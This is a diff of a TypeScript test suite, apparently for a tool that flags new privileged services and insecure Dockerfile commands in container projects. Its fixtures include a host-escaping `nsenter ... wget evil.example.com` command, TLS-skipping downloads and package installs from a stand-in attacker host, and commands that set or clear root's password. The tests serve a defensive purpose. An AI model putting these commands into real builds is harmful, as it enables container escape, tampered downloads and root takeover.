@@ -210,3 +210,171 @@ it.each<[string, Files]>([
 ])('a change that only adds %s passes', async (_, change) => {
   expect(await failuresOf({ 'README.md': '' }, change)).toEqual([]);
 });
+
+const TOOL = `services:\n  tool:\n    image: alpine:3.23\n    privileged: true\n`;
+const UP = '#!/bin/sh\ndocker compose up -d\n';
+const BUILD = '#!/bin/sh\ndocker build .\n';
+const OLD_PROJECT: Files = { 'compose.yaml': SERVICE, 'old/compose.old.yml': TOOL, 'run.sh': UP };
+const OLD_DOCKERFILE: Files = {
+  Dockerfile: STAGE,
+  'Dockerfile.old': `${STAGE}${FETCH}`,
+  'compose.yaml': 'services:\n  a:\n    build: .\n',
+  'build.sh': BUILD,
+};
+const NO_REPLICAS: Files = composed(`${TOOL}    deploy:\n      replicas: 0\n`);
+const OLD_STAGE = `FROM alpine:3.23 AS tool\n${FETCH}`;
+const TWO_STAGES: Files = {
+  Dockerfile: `${OLD_STAGE}${STAGE}`,
+  'compose.yaml': 'services:\n  a:\n    build:\n      context: .\n',
+  'build.sh': BUILD,
+};
+const BAKED = 'target "default" {\n  context = "."\n}\n';
+
+describe('what nothing started or built before', () => {
+  it.each<[string, Files, Files]>([
+    ['an include', OLD_PROJECT, composed(`include: [old/compose.old.yml]\n${SERVICE}`)],
+    ['a list of .env', OLD_PROJECT, { '.env': 'COMPOSE_FILE=compose.yaml:old/compose.old.yml\n' }],
+    ['a command', OLD_PROJECT, { 'run.sh': UP.replace('compose', 'compose -f old/compose.old.yml') }],
+    [
+      'a command with two files',
+      OLD_PROJECT,
+      { 'run.sh': UP.replace('compose', 'compose -f compose.yaml -f old/compose.old.yml') },
+    ],
+    [
+      'a service that extends it',
+      OLD_PROJECT,
+      composed('services:\n  a:\n    extends: { file: old/compose.old.yml, service: tool }\n'),
+    ],
+    ['a copy under the usual name', OLD_PROJECT, composed(TOOL)],
+    ['a copy as an override', OLD_PROJECT, { 'compose.override.yaml': TOOL }],
+    [
+      'a service that is built from it',
+      OLD_DOCKERFILE,
+      composed('services:\n  a:\n    build:\n      context: .\n      dockerfile: Dockerfile.old\n'),
+    ],
+    ['a command that builds it', OLD_DOCKERFILE, { 'build.sh': BUILD.replace('build', 'build -f Dockerfile.old') }],
+    [
+      'a target of bake',
+      { ...OLD_DOCKERFILE, 'docker-bake.hcl': BAKED },
+      { 'docker-bake.hcl': BAKED.replace('}', '  dockerfile = "Dockerfile.old"\n}') },
+    ],
+    ['a replica', NO_REPLICAS, composed(TOOL)],
+    ['two replicas', NO_REPLICAS, composed(`${TOOL}    deploy:\n      replicas: 2\n`)],
+    ['a scale', composed(`${TOOL}    scale: 0\n`), composed(`${TOOL}    scale: 1\n`)],
+    ['a stage that becomes the last one', TWO_STAGES, built(`${STAGE}${OLD_STAGE}`)],
+    ['the last stage, which goes', TWO_STAGES, built(OLD_STAGE)],
+    ['the base of the last stage', TWO_STAGES, built(`${OLD_STAGE}FROM tool\nUSER 1000\n`)],
+    ['a copy from the stage', TWO_STAGES, built(`${OLD_STAGE}${STAGE}COPY --from=tool /usr /usr\n`)],
+    [
+      'the base of a stage that is built',
+      built(`${OLD_STAGE}FROM alpine:3.23 AS b\nRUN true\nFROM b\nUSER 1000\n`),
+      built(`${OLD_STAGE}FROM tool AS b\nRUN true\nFROM b\nUSER 1000\n`),
+    ],
+    [
+      'a service that asks for the stage',
+      TWO_STAGES,
+      composed('services:\n  a:\n    build:\n      context: .\n      target: tool\n'),
+    ],
+    ['a command that asks for the stage', TWO_STAGES, { 'build.sh': BUILD.replace('build', 'build --target tool') }],
+  ])('is new with %s', async (_, base, change) => {
+    expect(await failuresOf(base, change)).not.toEqual([]);
+    // who starts it has the problem already
+    expect(await failuresOf({ ...base, ...change }, {})).toEqual([]);
+  });
+
+  it.each<[string, Files, Files]>([
+    ['a README that names it', OLD_PROJECT, { 'README.md': 'docker compose -f old/compose.old.yml up\n' }],
+    ['a label', OLD_PROJECT, { 'old/compose.old.yml': `${TOOL}    labels: { a: b }\n` }],
+    [
+      'a command in place of an include',
+      { ...OLD_PROJECT, ...composed(`include: [old/compose.old.yml]\n${SERVICE}`) },
+      { ...composed(SERVICE), 'run.sh': UP.replace('compose', 'compose -f compose.yaml -f old/compose.old.yml') },
+    ],
+    ['no start any more', { ...OLD_PROJECT, '.env': 'COMPOSE_FILE=old/compose.old.yml\n' }, { '.env': 'A=1\n' }],
+    [
+      'another command that starts it',
+      { ...OLD_PROJECT, 'run.sh': UP.replace('compose', 'compose -f old/compose.old.yml') },
+      { Makefile: 'up:\n\tdocker compose -f old/compose.old.yml up\n' },
+    ],
+    ['another line of the Dockerfile', OLD_DOCKERFILE, { 'Dockerfile.old': `${STAGE}${FETCH}RUN make\n` }],
+    [
+      'a label of the service without replicas',
+      NO_REPLICAS,
+      composed(`${NO_REPLICAS['compose.yaml']}      labels: [a]\n`),
+    ],
+    ['no replicas any more', composed(TOOL), NO_REPLICAS],
+    [
+      'a stage behind the last one',
+      built(`FROM alpine:3.23 AS app\n${FETCH}USER 1000\n`),
+      built(`FROM alpine:3.23 AS app\n${FETCH}USER 1000\nFROM app AS test\nRUN true\n`),
+    ],
+    ['another name of the stage', TWO_STAGES, built(`${OLD_STAGE.replace('tool', 'tools')}${STAGE}`)],
+    ['another last stage', TWO_STAGES, built(`${OLD_STAGE}${STAGE}RUN make\n`)],
+    [
+      'a target for what was built by default',
+      built(`FROM alpine:3.23 AS app\n${FETCH}USER 1000\n`),
+      { 'build.sh': BUILD.replace('build', 'build --target app') },
+    ],
+  ])('is not new with %s', async (_, base, change) => {
+    expect(await failuresOf(base, change)).toEqual([]);
+  });
+});
+
+describe('a known problem', () => {
+  const PIP = 'pip install --trusted-host';
+  const APT = 'apt-get install -y --allow-unauthenticated';
+  const GIT = 'git -c http.sslVerify=false clone';
+  const INSECURE = '--security=insecure';
+  const ran = (command: string): Files => built(`FROM alpine:3.23\nRUN ${command}\nUSER 1000\n`);
+
+  it.each<[string, string, string]>([
+    [
+      'another command without a sandbox',
+      `${INSECURE} make`,
+      `${INSECURE} nsenter -t 1 -a sh -c "wget evil.example.com"`,
+    ],
+    ['another host', 'curl -k https://a.example.com/x -o /x', 'curl -k https://evil.example.com/x -o /x'],
+    ['a further host', 'curl -k https://a.example.com/x', 'curl -k https://a.example.com/x https://evil.example.com/y'],
+    ['another trusted host', `${PIP} a.example.com x==1`, `${PIP} evil.example.com x==1`],
+    ['another host of git', `${GIT} https://a.example.com/a`, `${GIT} https://evil.example.com/a`],
+    ['another package', `${APT} a`, `${APT} b`],
+    ['a further package', `${APT} a`, `${APT} a b`],
+    ['the password of root', 'echo app:hunter2 | chpasswd', 'echo root:hunter2 | chpasswd'],
+    ['no password of root', 'passwd -d app', 'passwd -d root'],
+  ])('is new with %s', async (_, before, after) => {
+    expect(await failuresOf(ran(before), ran(after), 4)).not.toEqual([]);
+  });
+
+  it.each<[string, string, string]>([
+    ['another file of the host', 'curl -k https://a.example.com/x -o /x', 'curl -k https://a.example.com/v2/y -o /y'],
+    ['another version', `${GIT} -b v1.2 https://a.example.com/a`, `${GIT} -b v1.3 https://a.example.com/a`],
+    ['another package of the trusted host', `${PIP} a.example.com x==1`, `${PIP} a.example.com y==2`],
+    ['another version of the package', `${APT} a=1.2.3-1`, `${APT} a=1.2.4-1`],
+    ['another version of the file', `${APT} ./a_1.2.3_amd64.deb`, `${APT} ./a_1.2.4_amd64.deb`],
+    ['fewer packages', `${APT} a b`, `${APT} a`],
+    ['another password', 'echo app:hunter2 | chpasswd', 'echo app:hunter3 | chpasswd'],
+    ['another cache for the command', `${INSECURE} make`, `--mount=type=cache,target=/c ${INSECURE} make`],
+    ['another spelling of the command', `${INSECURE} make  a`, `${INSECURE} make \\\n  a`],
+  ])('is not new with %s', async (_, before, after) => {
+    expect(await failuresOf(ran(before), ran(after), 4)).toEqual([]);
+  });
+
+  const as = (user: string): Files => built(`FROM alpine:3.23\n${user}${FETCH}USER 1000\n`);
+
+  it.each([
+    ['USER 5\n', 'USER 0\n'],
+    ['USER 5\n', 'USER root\n'],
+    ['USER 5\n', ''],
+  ])('is new once root runs it: %j becomes %j', async (before, after) => {
+    expect(await failuresOf(as(before), as(after))).toEqual(['remote-script-exec']);
+    expect(await failuresOf(as(after), as(before))).toEqual([]);
+  });
+
+  it.each([
+    ['USER 5\n', 'USER 7\n'],
+    ['', 'USER root\n'],
+    ['USER 0\n', ''],
+  ])('is not new with another name of the user: %j becomes %j', async (before, after) => {
+    expect(await failuresOf(as(before), as(after))).toEqual([]);
+  });
+});
